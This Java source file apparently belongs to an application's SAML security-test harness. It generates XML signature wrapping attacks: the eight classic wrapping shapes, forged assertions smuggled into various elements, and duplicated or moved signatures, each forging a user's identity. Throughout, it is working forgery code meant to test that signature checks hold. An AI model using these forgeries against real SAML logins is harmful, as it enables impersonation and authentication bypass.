package org.guestbridge.app.attack;

import java.util.List;
import org.guestbridge.app.samlxml.JdkXml;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The eight shapes of XML signature wrapping (Somorovsky and others, "On Breaking SAML: Be Whoever
 * You Want to Be", USENIX Security 2012; numbered as in SAML Raider), and forged assertions put
 * where a reader may find them.
 */
final class SignatureWrapping {

  /** The object id that forged assertions claim. */
  static final String FORGED_PERSON = "00000000-dead-4bad-8bad-00000000beef";

  private static final String PERSON = "b7d0a0e2-6a0f-4c5e-9b9a-3c1f5f0a7a11";
  private static final String DSIG = HandmadeSignature.DSIG;
  private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";

  private final Document document;
  private final Element response;
  private final Element assertion;
  private final boolean sameId;
  private final boolean first;

  private SignatureWrapping(String signed, AttackCase attack) {
    this.document = JdkXml.parse(signed);
    this.response = document.getDocumentElement();
    this.assertion = Dom.first(document, "Assertion");
    this.sameId = attack.text("id", "new").equals("same");
    this.first = attack.text("place", "first").equals("first");
  }

  /** A shape around a signed response. */
  static String wrap(String signed, AttackCase attack) {
    SignatureWrapping wrapping = new SignatureWrapping(signed, attack);
    switch (attack.number("shape")) {
      case 1 -> wrapping.originalResponseInSignature();
      case 2 -> wrapping.originalResponseBesideSignature();
      case 3 -> wrapping.forgedBesideOriginal();
      case 4 -> wrapping.originalInForged();
      case 5 -> wrapping.forgedKeepsSignature(wrapping.response);
      case 6 -> wrapping.forgedKeepsSignature(wrapping.signature());
      case 7 -> wrapping.forgedInExtensions();
      case 8 -> wrapping.forgedKeepsSignature(wrapping.object());
      default -> throw new IllegalArgumentException("no such shape: " + attack);
    }
    return Dom.write(wrapping.document);
  }

  /** A forged assertion inside the first element of the name that {@code in} gives. */
  static String smuggle(String signed, AttackCase attack) {
    SignatureWrapping wrapping = new SignatureWrapping(signed, attack);
    Element place = wrapping.place(attack.text("in"));
    wrapping.insert(wrapping.forged(), place);
    return Dom.write(wrapping.document);
  }

  /** A second signature of the same value, with a forged assertion in an Object. */
  static String secondSignature(String signed, AttackCase attack) {
    SignatureWrapping wrapping = new SignatureWrapping(signed, attack);
    Element signature = wrapping.signature();
    Element second = (Element) signature.cloneNode(true);
    Element object = wrapping.document.createElementNS(DSIG, "ds:Object");
    object.appendChild(wrapping.forged());
    if (attack.text("object").equals("true")) {
      second.appendChild(object);
    }
    signature
        .getParentNode()
        .insertBefore(second, wrapping.first ? signature : signature.getNextSibling());
    return Dom.write(wrapping.document);
  }

  /** A second SignedInfo that digests the forged assertion. */
  static String secondSignedInfo(String signed, AttackCase attack) {
    SignatureWrapping wrapping = new SignatureWrapping(signed, attack);
    Element signature = wrapping.signature();
    Element genuine = (Element) signature.getFirstChild();
    for (int i = 1; i < attack.number("count"); i++) {
      Element decoy = (Element) genuine.cloneNode(true);
      decoy
          .getElementsByTagNameNS(DSIG, "DigestValue")
          .item(0)
          .setTextContent("47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=");
      Node before =
          switch (attack.text("at")) {
            case "first" -> signature.getFirstChild();
            case "second" -> genuine.getNextSibling();
            case "last" -> null;
            default -> throw new IllegalArgumentException(attack.toString());
          };
      signature.insertBefore(decoy, before);
    }
    return Dom.write(wrapping.document);
  }

  /** The signature at the place of the other signature, and the other way round if there is one. */
  static String moved(String signed, AttackCase attack) {
    SignatureWrapping wrapping = new SignatureWrapping(signed, attack);
    Element signature = wrapping.signature();
    boolean ofAssertion = signature.getParentNode() == wrapping.assertion;
    Element target = ofAssertion ? wrapping.response : wrapping.assertion;
    if (attack.text("copy").equals("true")) {
      signature = (Element) signature.cloneNode(true);
    }
    wrapping.forge(wrapping.assertion);
    target.insertBefore(signature, target.getFirstChild().getNextSibling());
    return Dom.write(wrapping.document);
  }

  private void originalResponseInSignature() {
    Element original = unsignedCopy(response);
    forge(assertion);
    renew(response, "_forged_response");
    insert(original, signature());
  }

  private void originalResponseBesideSignature() {
    Element signature = signature();
    Element original = unsignedCopy(response);
    forge(assertion);
    renew(response, "_forged_response");
    signature
        .getParentNode()
        .insertBefore(original, first ? signature : signature.getNextSibling());
  }

  private void forgedBesideOriginal() {
    response.insertBefore(forged(), first ? assertion : assertion.getNextSibling());
  }

  private void originalInForged() {
    Element forged = forged();
    response.replaceChild(forged, assertion);
    insert(assertion, forged);
  }

  /** The genuine signature stays with the forged assertion; an unsigned original goes elsewhere. */
  private void forgedKeepsSignature(Element place) {
    Element original = unsignedCopy(assertion);
    forge(assertion);
    insert(original, place);
  }

  private void forgedInExtensions() {
    Element extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
    extensions.appendChild(forged());
    Node status = Dom.first(document, "Status");
    response.insertBefore(extensions, first ? status : null);
  }

  private Element place(String name) {
    return switch (name) {
      case "Object" -> object();
      case "KeyInfo" -> {
        Element keyInfo = document.createElementNS(DSIG, "ds:KeyInfo");
        signature().appendChild(keyInfo);
        yield keyInfo;
      }
      case "StatusDetail" -> {
        Element detail = document.createElementNS(PROTOCOL, "samlp:StatusDetail");
        Dom.first(document, "Status").appendChild(detail);
        yield detail;
      }
      case "Extensions" -> {
        Element extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
        response.insertBefore(extensions, Dom.first(document, "Status"));
        yield extensions;
      }
      case "StatusMessage" -> {
        Element message = document.createElementNS(PROTOCOL, "samlp:StatusMessage");
        Dom.first(document, "Status").appendChild(message);
        yield message;
      }
      case "Advice" -> {
        Element advice = document.createElementNS(assertion.getNamespaceURI(), "Advice");
        assertion.insertBefore(advice, Dom.first(document, "Conditions").getNextSibling());
        yield advice;
      }
      default -> Dom.first(document, name);
    };
  }

  private Element object() {
    Element object = document.createElementNS(DSIG, "ds:Object");
    signature().appendChild(object);
    return object;
  }

  /** The assertion's signature if it has one, else the response's. */
  private Element signature() {
    List<Element> signatures =
        Dom.elements(document).stream()
            .filter(element -> "Signature".equals(element.getLocalName()))
            .toList();
    return signatures.get(signatures.size() - 1);
  }

  private Element forged() {
    Element forged = unsignedCopy(assertion);
    forge(forged);
    return forged;
  }

  private void forge(Element element) {
    replacePerson(element);
    renew(element, "_forged");
  }

  private static void replacePerson(Element element) {
    for (Node child = element.getFirstChild(); child != null; child = child.getNextSibling()) {
      if (child instanceof Element inner) {
        replacePerson(inner);
      } else if (child.getNodeValue().equals(PERSON)) {
        child.setNodeValue(FORGED_PERSON);
      }
    }
  }

  private void renew(Element element, String id) {
    if (!sameId) {
      element.setAttribute("ID", id);
    }
  }

  private static Element unsignedCopy(Element element) {
    Element copy = (Element) element.cloneNode(true);
    Node child = copy.getFirstChild();
    while (child != null) {
      Node next = child.getNextSibling();
      if ("Signature".equals(child.getLocalName())) {
        copy.removeChild(child);
      }
      child = next;
    }
    return copy;
  }

  private void insert(Element element, Element parent) {
    parent.insertBefore(element, first ? parent.getFirstChild() : null);
  }
}
